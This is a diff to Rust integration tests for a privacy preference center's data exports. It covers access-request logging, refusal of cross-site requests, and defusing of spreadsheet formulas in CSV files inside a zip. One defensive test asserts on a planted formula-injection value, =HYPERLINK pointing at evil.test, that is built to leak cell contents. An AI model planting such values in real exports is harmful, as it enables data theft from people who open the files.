@@ -433,6 +433,59 @@ async fn a_session_reaches_only_its_own_subject() {
     let data = alice.get(&center, "/preferences/data.json").await;
     assert_eq!(data.json["subject"]["id"], json!(a.0));
     assert!(data.json["consents"].as_array().unwrap().is_empty());
+    // It is an access request of its own, verified by the session, answered at once, and its
+    // log holds the hash of what was downloaded.
+    let filed = center
+        .app
+        .store
+        .requests(&kept_store::requests::RequestFilter {
+            subject: Some(a),
+            limit: 10,
+            ..Default::default()
+        })
+        .await
+        .unwrap();
+    assert_eq!(filed.len(), 1);
+    assert_eq!(filed[0].kind.as_str(), "access");
+    assert_eq!(filed[0].channel.as_str(), "preference_center");
+    assert_eq!(filed[0].state.as_str(), "completed");
+    assert_eq!(data.json["request"]["id"], json!(filed[0].id));
+    let log = kept_server::requests::service::log_of(center.app.store.as_ref(), filed[0].id)
+        .await
+        .unwrap();
+    let handed = log
+        .iter()
+        .find(|(_, _, r)| r.detail.iter().any(|(k, _)| k == "export.blake3"))
+        .expect("the download is in the log");
+    assert!(handed.2.detail.contains(&(
+        "export.blake3".to_owned(),
+        blake3::hash(&data.bytes).to_hex().to_string()
+    )));
+    // A link on another site files nothing.
+    let cross = send(
+        center.router(),
+        Request::get("/preferences/data.json")
+            .header(header::COOKIE, &alice.cookie)
+            .header("sec-fetch-site", "cross-site")
+            .body(Body::empty())
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(cross.status, StatusCode::FORBIDDEN);
+    assert_eq!(
+        center
+            .app
+            .store
+            .requests(&kept_store::requests::RequestFilter {
+                subject: Some(a),
+                limit: 10,
+                ..Default::default()
+            })
+            .await
+            .unwrap()
+            .len(),
+        1
+    );
     // A session cookie rewritten to name Bob is not a session.
     let token = alice.cookie.strip_prefix("kept_prefs=").unwrap();
     let (payload, mac) = token.split_once('.').unwrap();
@@ -1214,7 +1267,11 @@ async fn signing_out_ends_the_session_on_the_server() {
     let page = copy.get(&center, "/preferences").await;
     assert_eq!(page.status, StatusCode::SEE_OTHER);
     assert!(location(&page).starts_with("/preferences/sign-in"));
-    for path in ["/preferences/data.json", "/preferences/data.csv"] {
+    for path in [
+        "/preferences/data.json",
+        "/preferences/data.zip",
+        "/preferences/data.html",
+    ] {
         let data = copy.get(&center, path).await;
         assert_eq!(data.status, StatusCode::UNAUTHORIZED, "{path}");
         assert!(!data.text.contains("\"traits\""), "{path}");
@@ -1310,22 +1367,30 @@ async fn csv_exports_defuse_formulas_planted_in_traits() {
     .await;
     assert_eq!(answer.status, StatusCode::OK, "{}", answer.text);
     let browser = center.browser(subject).await;
-    let csv = browser.get(&center, "/preferences/data.csv").await;
-    assert_eq!(csv.status, StatusCode::OK, "{}", csv.text);
-    let row = csv
-        .text
+    let zip = browser.get(&center, "/preferences/data.zip").await;
+    assert_eq!(zip.status, StatusCode::OK, "{}", zip.text);
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zip.bytes)).unwrap();
+    let mut traits = String::new();
+    std::io::Read::read_to_string(&mut archive.by_name("traits.csv").unwrap(), &mut traits)
+        .unwrap();
+    let row = traits
         .lines()
-        .find(|l| l.starts_with("trait,name,"))
-        .unwrap_or_else(|| panic!("a row for the name: {}", csv.text));
+        .find(|l| l.starts_with("name,"))
+        .unwrap_or_else(|| panic!("a row for the name: {traits}"));
     assert!(
-        row.starts_with("trait,name,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,"),
+        row.starts_with("name,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,"),
         "{row}"
     );
-    // No cell of the export starts a formula.
-    for line in csv.text.lines() {
-        for cell in line.split(',') {
-            let cell = cell.trim_start_matches('"');
-            assert!(!cell.starts_with(['=', '+', '@', '\t']), "{line}");
+    // No cell of any file of the export starts a formula.
+    for i in 0..archive.len() {
+        let mut file = archive.by_index(i).unwrap();
+        let mut text = String::new();
+        std::io::Read::read_to_string(&mut file, &mut text).unwrap();
+        for line in text.lines() {
+            for cell in line.split(',') {
+                let cell = cell.trim_start_matches('"');
+                assert!(!cell.starts_with(['=', '+', '@', '\t']), "{line}");
+            }
         }
     }
 }
